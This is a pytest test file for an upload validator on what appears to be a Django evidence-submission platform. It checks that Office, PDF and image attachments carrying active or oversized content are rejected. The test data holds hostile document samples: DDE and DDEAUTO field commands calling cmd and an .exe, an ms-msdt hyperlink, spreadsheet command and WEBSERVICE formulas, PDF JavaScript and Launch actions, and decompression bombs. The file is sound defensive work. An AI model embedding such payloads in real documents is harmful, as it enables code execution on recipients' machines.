"""What files that people attach must not hold, by what a reader of their formats finds in them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tuopin.platform import evidence
from tuopin.platform.problems import Problem

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "application/vnd.openxmlformats-officedocument."
WORD, SHEET = f"{OFFICE}wordprocessingml.document.main+xml", f"{OFFICE}spreadsheetml.sheet.main+xml"


def package(parts: dict[str, bytes | str], kind: str = WORD, more: str = "") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", f'<Types><Override PartName="/a" ContentType="{kind}"/>{more}</Types>')
        for name, content in parts.items():
            made.writestr(name, content)
    return held.getvalue()


def field(*pieces: str) -> str:
    """A document with a field cut into pieces; ``{`` and ``}`` stand for where another begins and ends in it."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="{marks[each]}"/></w:r>' if each in marks
        else f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in pieces
    )  # fmt: skip
    return f"<w:document {W}><w:body><w:p>{runs}</w:p></w:body></w:document>"


def cell(formula: str) -> str:
    return f"<row><c r='A1'><f>{formula}</f><v>1</v></c></row>"


def relation(kind: str, target: str, *, out: bool = True) -> dict[str, bytes | str]:
    mode = ' TargetMode="External"' if out else ""
    said = f'<Relationship Id="a" Type="http://x/relationships/{kind}" Target="{target}"{mode}/>'
    return {"word/_rels/document.xml.rels": f"<Relationships>{said}</Relationships>"}


def png(wide: int, high: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", wide, high)


def jpeg(wide: int, high: int) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08" + struct.pack(">HH", high, wide) + b"\x03" + b"x" * 9


def objects(inner: bytes, *, locked: bool = False, packed: bool = True) -> bytes:
    """A PDF that says it all in a stream of objects, as most programs write one."""
    held = zlib.compress(inner) if packed else inner
    begun = b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 9>>stream\r\n" + held
    return begun + b"\nendstream endobj\ntrailer<</Root 1 0 R" + (b"/Encrypt 5 0 R" if locked else b"") + b">>"


def keep(given: bytes) -> evidence.Kept:
    return evidence.keep(SimpleUploadedFile("清单.docx", given), office=True)


@pytest.mark.parametrize(
    ("given", "code"),
    [
        (package({"word/document.xml": field("{", " DD", "EAUTO c:\\x.exe ", "|", "}")}), "file_links"),
        (package({"word/document.xml": field("{", "IF 1=1 ", "{", "INCLUDEPICTURE http://x", "}", "}")}), "file_links"),
        (package({"word/footer9.xml": f'<w:p {W}><w:fldSimple w:instr=" includetext c:\\a "/></w:p>'}), "file_links"),
        (package({"word/other.bin": field("{", "MACROBUTTON x").encode("utf-16")}), "file_links"),
        (package(relation("hyperlink", "file://server/share/a.exe")), "file_links"),
        (package(relation("hyperlink", "ms-msdt:/id x")), "file_links"),
        (package(relation("oleObject", "a.bin", out=False)), "file_macros"),
        (package(relation("aFChunk", "a.html", out=False)), "file_macros"),
        (package({}, more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
         "file_macros"),
        (package({"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"}, SHEET),
         "file_links"),
        (package({"xl/connections.xml": "<connections/>"}, SHEET), "file_links"),
        (package({"xl/worksheets/sheet1.xml": cell('_xlfn.WEBSERVICE("http://x/" &amp; A1)')}, SHEET), "file_links"),
        (package({"xl/worksheets/sheet1.xml": cell("1+web&#115;ervice (A1)")}, SHEET), "file_links"),
        (package({"xl/worksheets/sheet1.xml": "<row/>" * 400_000 + cell("cmd|'/c calc'!A1")}, SHEET), "not_a_paper"),
        (package({"xl/worksheets/sheet1.xml": f"<x>{'<row/>' * 400_000}{cell("cmd|'/c calc'!A1")}</x>"}, SHEET),
         "file_links"),
        (package({"xl/a.bin": cell("IMAGE(B2)").encode("utf-16")}, SHEET), "file_links"),
        (package({"xl/workbook.xml": "<x:definedName xmlns:x='a'>RTD(1)</x:definedName>"}, SHEET), "file_links"),
        (package({"word/media/a.png": png(60_000, 60_000)}), "picture_too_large"),
        (package({"xl/media/a.bin": jpeg(60_000, 60_000)}, SHEET), "picture_too_large"),
        (package({"xl/worksheets/sheet1.xml": b" " * (64 << 20)}, SHEET), "file_too_large"),
        (package({"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "not_a_paper"),
        (png(60_000, 60_000), "picture_too_large"),
        (jpeg(60_000, 60_000), "picture_too_large"),
        (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "file_programs"),
        (b"%PDF-1.7\n1 0 obj<</AA<</O<</S/J#61vaScri#70t/JS 2 0 R>>>>>>endobj", "file_programs"),
        (b"%PDF-1.7\n1 0 obj<</S /Launch /F(cmd.exe)>>endobj", "file_programs"),
        (b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream", "file_programs"),
        (b"%PDF-1.7\n1 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj", "file_programs"),
        (objects(b"1 0 <</S/JavaScript/JS(x)>>"), "file_programs"),
        (objects(b"1 0 <</S/JavaScript/JS(x)>>", packed=False), "file_programs"),
        (objects(b"1 0 <</A 1>>", locked=True), "file_locked"),
        (objects(b"not packed as it says", packed=False), "file_locked"),
        (b"%PDF-1.7\n" + b"/ObjStm " * 30_000, "file_locked"),
    ],
)  # fmt: skip
def test_what_runs_or_fetches_or_explodes_is_not_kept(given: bytes, code: str) -> None:
    before = sorted(evidence.folder().iterdir())
    with pytest.raises(Problem) as found:
        keep(given)
    assert found.value.code == code
    assert sorted(evidence.folder().iterdir()) == before


@pytest.mark.parametrize(
    ("given", "form"),
    [
        (
            package({"word/document.xml": field("{", "HYPERLINK http://a.gov.cn/link/DDE", "}", "{", "PAGE", "}")}),
            "docx",
        ),
        (package(relation("hyperlink", "https://a.gov.cn/link")), "docx"),
        (package({"xl/worksheets/sheet1.xml": "<row/>" * 9_000, "xl/media/a.png": png(5_000, 7_000)}, SHEET), "xlsx"),
        (package({"xl/worksheets/sheet1.xml": cell("IF(A1=&quot;CALL(1)&quot;,'a|b'!B2,SUM(B:B))")}, SHEET), "xlsx"),
        (png(9_900, 7_000), "png"),
        (jpeg(9_900, 7_000), "jpeg"),
        (b"\xff\xd8\xff cut off", "jpeg"),
        (b"%PDF-1.7\n1 0 obj<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://a.gov.cn)>>>>endobj", "pdf"),
        (objects(b"1 0 <</Type/Page/Contents 4 0 R>>"), "pdf"),
    ],
)
def test_what_offices_and_scanners_write_is_kept(given: bytes, form: str) -> None:
    kept = keep(given)
    assert kept.form == form
    assert (evidence.folder() / kept.digest).read_bytes() == given
